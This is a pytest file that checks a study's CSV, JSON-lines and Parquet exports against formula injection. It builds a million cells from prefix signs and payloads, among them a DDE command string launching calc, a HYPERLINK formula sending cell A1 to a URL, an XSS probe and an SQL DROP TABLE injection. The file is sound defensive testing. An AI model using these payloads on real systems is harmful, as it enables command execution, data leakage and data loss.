"""A million cells that mean harm: no export lets one start a formula, and every reader gets back what was typed."""

import csv
import io
import json

import numpy as np
import pandas
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.cells import guarded_cell, without_apostrophe
from analysis.tables import to_csv
from study.contract import Column, Table
from study.exports.cells import ExportError, cell, csv_chunks, json_line_chunks, json_text, plain_csv_chunks
from study.exports.parquet import parquet_chunks

COLUMNS, ROWS = 20, 50_000
RUN_BY_SPREADSHEETS = "=+-@\t\r\n＝＋－＠"
SIGNS = [
    *RUN_BY_SPREADSHEETS,
    "#",
    "'",
    "''",
    '"',
    '""',
    ",",
    ";",
    "|",
    " ",
    "\u00a0",
    "\u2028",
    "\ufeff",
    "\\",
    "\x0b",
]
PAYLOADS = [
    "",
    "beak",
    "1+1",
    'HYPERLINK("http://example.org?"&A1,"click")',
    "cmd|' /C calc'!A0",
    'a,"b",c',
    "first\nsecond\r\nthird",
    "NULL",
    "NA",
    "nan",
    "None",
    "#N/A",
    "1e5",
    "0x10",
    "é\u0301 ﬁ 𝔹 👩\u200d🔬",
    "\u202emirrored\u202c",
    "<script>alert(1)</script>",
    "'; DROP TABLE study_answer; --",
]
COLUMN = {"type": "string", "required": False, "description": "", "allowed": ()}
TABLE = Table(name="hostile", columns=tuple(Column(name=f"column_{number}", **COLUMN) for number in range(COLUMNS)))


@pytest.fixture(scope="module")
def texts():
    """A million cells, drawn with a fixed seed: signs, a payload, signs. Empty ones are missing values."""
    generator = np.random.default_rng(20260101)

    def signs(most):
        drawn = generator.choice([*SIGNS, *[""] * len(SIGNS)], size=(most, ROWS * COLUMNS)).astype(object)
        return drawn.sum(axis=0)

    drawn = signs(3) + generator.choice(PAYLOADS, size=ROWS * COLUMNS).astype(object) + signs(2)
    return np.where(drawn == "", None, drawn).reshape(ROWS, COLUMNS)


@pytest.fixture(scope="module")
def written(texts):
    """The cells as the export writes them into a CSV file."""
    return b"".join(csv_chunks(TABLE, rows(texts)))


def rows(texts):
    names = TABLE.column_names
    return (dict(zip(names, row, strict=True)) for row in texts.tolist())


def test_no_cell_of_a_million_starts_a_formula_and_all_come_back(texts, written):
    cells = pandas.read_csv(io.BytesIO(written), dtype=str, keep_default_na=False, na_values=[""])
    assert cells.shape == (ROWS, COLUMNS)
    for number, name in enumerate(cells.columns):
        column = cells[name]
        assert not column.str.slice(0, 1).isin(list(RUN_BY_SPREADSHEETS)).any(), name
        back = without_apostrophe(column).astype(object)
        expected = pandas.Series(texts[:, number], dtype=object)
        assert ((back == expected) | (back.isna() & expected.isna())).all(), name


def test_another_reader_finds_the_same_cells(texts, written):
    """Python's csv module splits the file into the same cells as pandas: no text can end its cell or its row."""
    reader = csv.reader(io.StringIO(written.decode(), newline=""))
    assert next(reader) == list(TABLE.column_names)
    for number, (found, typed) in enumerate(zip(reader, texts.tolist(), strict=True)):
        assert found == ["" if text is None else cell(text) for text in typed], number


def test_json_lines_and_parquet_lose_nothing(texts):
    some = texts[:: ROWS // 5000]
    lines = b"".join(json_line_chunks(rows(some))).decode().split("\n")
    assert [list(json.loads(line).values()) for line in lines[:-1]] == some.tolist()
    table = pyarrow.parquet.read_table(io.BytesIO(b"".join(parquet_chunks(TABLE, rows(texts)))))
    for number, name in enumerate(TABLE.column_names):
        assert table.column(name).to_pylist() == texts[:, number].tolist()


def test_tables_of_the_report_and_wide_tables_are_guarded_alike(texts):
    some = texts[:500]
    report = list(csv.reader(io.StringIO(to_csv(pandas.DataFrame(some)), newline="")))[1:]
    wide = b"".join(plain_csv_chunks(["=1+1", *TABLE.column_names[1:]], some.tolist())).decode()
    header, *body = csv.reader(io.StringIO(wide, newline=""))
    assert header[0] == "'=1+1"
    expected = [["" if text is None else cell(text) for text in row] for row in some.tolist()]
    assert report == body == expected


@given(st.text(max_size=12) | st.text(alphabet="'=+-@\t\r\n#＝＋－＠ab", max_size=8))
def test_the_guard_of_both_packages_is_the_same_and_can_be_undone(text):
    guarded = cell(text)
    assert guarded == guarded_cell(text)
    assert not guarded.startswith(tuple(RUN_BY_SPREADSHEETS))
    assert without_apostrophe(pandas.Series([guarded], dtype=str))[0] == text


def test_nul_survives_wherever_a_file_can_hold_it():
    row = dict.fromkeys(TABLE.column_names, "a\0b")
    assert list(csv.reader(io.StringIO(b"".join(csv_chunks(TABLE, [row])).decode())))[1] == list(row.values())
    assert json.loads(b"".join(json_line_chunks([row]))) == row
    table = pyarrow.parquet.read_table(io.BytesIO(b"".join(parquet_chunks(TABLE, [row]))))
    assert table.to_pylist() == [row]


def test_lone_surrogates_stay_in_json_and_are_refused_elsewhere():
    """They are no characters and nothing stores them; a file that hides that would be a file that lies."""
    row = dict.fromkeys(TABLE.column_names, "beak \ud800")
    assert json.loads(b"".join(json_line_chunks([row]))) == row
    assert json.loads(json_text(row)) == row
    with pytest.raises(ExportError, match=r"lone surrogate U\+D800"):
        list(csv_chunks(TABLE, [row]))
    with pytest.raises(ExportError, match=r"lone surrogate U\+D800"):
        list(parquet_chunks(TABLE, [row]))


@pytest.mark.django_db
def test_no_database_stores_a_lone_surrogate(django_user_model):
    with pytest.raises((UnicodeEncodeError, ValueError)):
        django_user_model.objects.create(username="beak \ud800")
